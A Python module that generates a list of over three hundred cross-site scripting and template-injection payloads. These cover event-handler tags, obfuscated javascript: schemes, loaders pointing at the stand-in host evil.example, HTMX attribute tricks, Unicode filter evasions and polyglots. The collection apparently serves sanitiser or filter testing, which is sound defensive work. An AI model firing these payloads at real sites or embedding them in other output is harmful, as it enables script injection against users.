"""Texts that a page which did not write them out as texts would run, load or send somewhere: three hundred and more."""

from __future__ import annotations

from itertools import product

ELSEWHERE = "//evil.example/x"
_RUN = "alert(1)"
_TAGS = (
    *(
        "img",
        "svg",
        "video",
        "audio",
        "body",
        "input autofocus",
        "details open",
        "marquee",
        "iframe",
        "object",
        "embed",
    ),
    *(
        "select autofocus",
        "textarea autofocus",
        "math",
        "form",
        "button autofocus",
        "keygen autofocus",
        "x tabindex=1 id=x",
    ),
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover", "onclick")
_QUOTES = ('"', "'", "`", "", "&quot;", "&#39;", '\\"', "\\'")
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "javascript&colon;",
        "javascript&#58;",
    ),
    *(
        "&#106;avascript:",
        "\u2028javascript:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4=",
    ),
    *("feed:javascript:", "javascript://%0a", "\u00a0javascript:", "\uff4aavascript:"),
)
_LOADERS = (
    *("<script src={0}></script>", "<img src={0}>", "<link rel=stylesheet href={0}>", "<iframe src={0}></iframe>"),
    *("<object data={0}></object>", "<embed src={0}>", "<base href={0}>", "<form action={0}><button>x</button></form>"),
    *('<meta http-equiv=refresh content="0;url={0}">', "<video poster={0}>", "<svg><image href={0}></svg>"),
    *(
        "<svg><use href={0}></svg>",
        "<input type=image src={0}>",
        "<style>@import '{0}';</style>",
        "<a ping={0} href=/>x</a>",
    ),
    *("<div style=background:url({0})>", "<table background={0}>", "<audio src={0}>", "<track src={0}>"),
)
_TEMPLATES = (
    *(
        "{{7*7}}",
        "{{{{alert(1)}}}}",
        "{{% print(config) %}}",
        "${{alert(1)}}",
        "#{{alert(1)}}",
        "<%= alert(1) %>",
        "[[alert(1)]]",
    ),
    *(
        "{{{{constructor.constructor('alert(1)')()}}}}",
        "{{{{''.__class__.__mro__}}}}",
        "*{{7*7}}",
        "@(7*7)",
        "~[alert(1)]",
    ),
    *("%(who)s", "{0}", "{who.name}", "<c:out value=alert(1)>", "{{{{request.application}}}}", "{{#with x}}{{/with}}"),
)
_BREAKS = (
    *("</textarea>", "</title>", "</script>", "</style>", "</option></select>", "-->", "]]>", "</svg>", "</noscript>"),
    *(
        "</template>",
        "</xmp>",
        "</plaintext>",
        "</iframe>",
        "</td></tr></table>",
        "<!--",
        "<![CDATA[",
        "</pre>",
        "</button>",
    ),
)
_HTMX = (
    *("<div hx-get={0} hx-trigger=load>", "<div data-hx-get={0} data-hx-trigger=load>", "<div hx-on:load=alert(1)>"),
    *("<div hx-on::after-settle=alert(1)>", "<div hx-vals='js:{{x:alert(1)}}' hx-post=/ hx-trigger=load>"),
    *("<div hx-headers='js:{{x:alert(1)}}'>", "<b hx-swap-oob=true id=isi>x</b>", "<div hx-ext=x hx-boost=true>"),
)
_UNICODE = (
    *(
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u02bascript\u02ba onerror=alert(1)",
        "\u202e<script>alert(1)</script>",
    ),
    *(
        "<scr\u200dipt>alert(1)</scr\u200dipt>",
        "<\u017fcript>alert(1)</\u017fcript>",
        "<img\u00a0src=x onerror=alert(1)>",
    ),
    *(
        "<img\u2003src=x onerror=alert(1)>",
        "\ufeff<script>alert(1)</script>",
        "<script>\u2028alert(1)</script>",
        "\u2039img\u203a",
    ),
    *(
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ),
    *(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\\x3cscript\\x3ealert(1)",
        "&#x3C;script&#x3E;alert(1)",
        "<script/\u0085>alert(1)",
    ),
)
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/oNloAd=alert(1)//>",
    "\"'`><img src=x onerror=alert(1)>{{7*7}}${7*7}",
    "';alert(1)//\";alert(1)//--></script><script>alert(1)</script>",
    '"><svg/onload=alert(1)><!--',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "`${alert(1)}`",
    "\\';alert(1);//",
    "<script>alert(1)</script",
    "<script\n>alert(1)</script\n>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)


def _all() -> list[str]:
    found = [f"<{tag} src=x {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f"{quote} {event}={_RUN} x={quote}" for quote, event in product(_QUOTES, _EVENTS[:4])]
    found += [f"{scheme}{_RUN}" for scheme in _SCHEMES] + [f'<a href="{scheme}{_RUN}">x</a>' for scheme in _SCHEMES]
    found += [one.format(ELSEWHERE) for one in (*_LOADERS, *_HTMX)]
    found += [one.replace("{{{{", "{{").replace("}}}}", "}}") for one in _TEMPLATES]
    found += [f"{one}<img src=x onerror={_RUN}>" for one in _BREAKS]
    return list(dict.fromkeys([*found, *_UNICODE, *_POLYGLOTS]))


PAYLOADS = _all()
